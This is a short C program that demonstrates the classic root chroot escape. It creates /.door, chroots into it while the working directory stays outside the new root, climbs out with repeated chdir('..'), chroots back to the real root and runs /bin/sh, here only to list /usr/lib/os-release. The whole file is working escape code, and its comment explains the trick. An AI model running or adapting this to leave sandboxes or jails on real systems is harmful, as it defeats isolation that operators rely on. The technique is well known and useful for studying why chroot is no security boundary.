/* SPDX-License-Identifier: MIT
 * Walks out of a chroot, as root can: a directory opened (or, as here, stood in) before a second
 * chroot lies outside of the new root, and there ".." never stops at it.
 */
#define _DEFAULT_SOURCE
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int
main(void)
{
	mkdir("/.door", 0700);
	if (chroot("/.door") < 0) {
		perror("chroot");
		return 1;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		return 1;
	execl("/bin/sh", "sh", "-c", "ls -d /usr/lib/os-release", (char *)NULL);
	perror("/bin/sh");
	return 1;
}
